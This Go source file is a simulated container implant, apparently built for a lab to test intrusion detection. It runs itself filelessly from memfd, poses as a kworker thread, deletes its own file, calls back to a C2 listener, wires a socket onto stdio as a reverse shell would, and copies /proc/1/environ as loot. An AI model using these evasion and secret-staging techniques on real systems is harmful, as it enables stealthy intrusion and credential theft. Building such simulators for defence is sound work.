// Command implant is the harmless stand-in for what an intruder leaves in a container. It connects to the lab's
// own listener, sends bytes, hides itself in the ways that real implants do, and sleeps. It harms nothing and
// ends when told to, or after an hour.
package main

import (
	"bytes"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"runtime"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

type options struct {
	c2, name, mode, listen, stage, target string
	send                                  int
	deleteSelf                            bool
}

func main() {
	// The process's name is that of its first thread.
	runtime.LockOSThread()
	var o options
	flag.StringVar(&o.c2, "c2", "", "address to connect to")
	flag.StringVar(&o.name, "name", "", "name to take")
	flag.StringVar(&o.mode, "mode", "plain", "plain, memfd, hold, stdio, patch or stage")
	flag.StringVar(&o.listen, "listen", "", "address to listen on")
	flag.StringVar(&o.stage, "stage", "", "directory to copy loot and itself to")
	flag.StringVar(&o.target, "target", "/proc/1", "process to patch")
	flag.IntVar(&o.send, "send", 0, "bytes to send after the greeting")
	flag.BoolVar(&o.deleteSelf, "delete", false, "delete the own file")
	flag.Parse()
	// An error's only outlet is the exit status: a converter's output is thrown away.
	if err := run(o); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func run(o options) error {
	if o.mode == "memfd" && !strings.HasPrefix(exe(), "/memfd:") {
		return again(o)
	}
	if o.deleteSelf {
		if err := os.Remove(os.Args[0]); err != nil {
			return err
		}
	}
	if o.name != "" {
		b := append([]byte(o.name), 0)
		if err := unix.Prctl(unix.PR_SET_NAME, uintptr(unsafe.Pointer(&b[0])), 0, 0, 0); err != nil {
			return err
		}
	}
	did := ""
	switch o.mode {
	case "hold":
		// A second stage that is only held open, never run.
		fd, err := unix.MemfdCreate("stage2", unix.MFD_CLOEXEC)
		if err != nil {
			return err
		}
		if _, err := unix.Write(fd, []byte("\x7fELF held, not run: second stage of the lab's implant")); err != nil {
			return err
		}
	case "patch":
		at, err := patch(o.target)
		if err != nil {
			return err
		}
		did = fmt.Sprintf(" patched=%#x", at)
	case "stage":
		if err := stage(o.stage); err != nil {
			return err
		}
	}
	if o.listen != "" {
		l, err := net.Listen("tcp4", o.listen)
		if err != nil {
			return err
		}
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				go func() {
					_, _ = io.Copy(io.Discard, c)
					c.Close()
				}()
			}
		}()
	}
	if o.c2 != "" {
		if err := call(o, did); err != nil {
			return err
		}
	}
	time.Sleep(time.Hour)
	return nil
}

func exe() string {
	s, _ := os.Readlink("/proc/self/exe")
	return s
}

// again runs this program once more from memory, in the same process, and leaves no file to look at.
func again(o options) error {
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	if o.deleteSelf {
		if err := os.Remove(os.Args[0]); err != nil {
			return err
		}
	}
	fd, err := unix.MemfdCreate("kworker", unix.MFD_CLOEXEC)
	if err != nil {
		return err
	}
	for rest := self; len(rest) > 0; {
		n, err := unix.Write(fd, rest)
		if err != nil {
			return err
		}
		rest = rest[n:]
	}
	args := []string{"[kworker/0:1]"}
	for _, a := range os.Args[1:] {
		if a != "-delete" {
			args = append(args, a)
		}
	}
	return unix.Exec(fmt.Sprintf("/proc/self/fd/%d", fd), args, os.Environ())
}

// call greets the listener, sends what was asked for, and obeys two commands: "exit" and "ping".
func call(o options, did string) error {
	c, err := net.DialTimeout("tcp4", o.c2, 10*time.Second)
	if err != nil {
		return err
	}
	if o.mode == "stdio" {
		// What a reverse shell does to its descriptors, without a shell: there is none here.
		f, err := c.(*net.TCPConn).File()
		if err != nil {
			return err
		}
		for fd := range 3 {
			if err := unix.Dup3(int(f.Fd()), fd, 0); err != nil {
				return err
			}
		}
		f.Close()
	}
	fmt.Fprintf(c, "HELLO pid=%d mode=%s exe=%s%s\n", os.Getpid(), o.mode, strings.ReplaceAll(exe(), " ", "_"), did)
	if _, err := c.Write(bytes.Repeat([]byte("loot"), o.send/4)); err != nil {
		return err
	}
	go func() {
		buf := make([]byte, 64)
		for {
			n, err := c.Read(buf)
			if err != nil {
				return // the listener went; stay, as an implant would
			}
			switch strings.TrimSpace(string(buf[:n])) {
			case "exit":
				os.Exit(0)
			case "ping":
				fmt.Fprintln(c, "pong")
			}
		}
	}()
	return nil
}

// stage copies the environment of the first process and the program itself to a scratch place.
func stage(dir string) error {
	env, err := os.ReadFile("/proc/1/environ")
	if err != nil {
		return err
	}
	if err := os.WriteFile(dir+"/.env", env, 0o600); err != nil {
		return err
	}
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	return os.WriteFile(dir+"/.stage", self, 0o755)
}
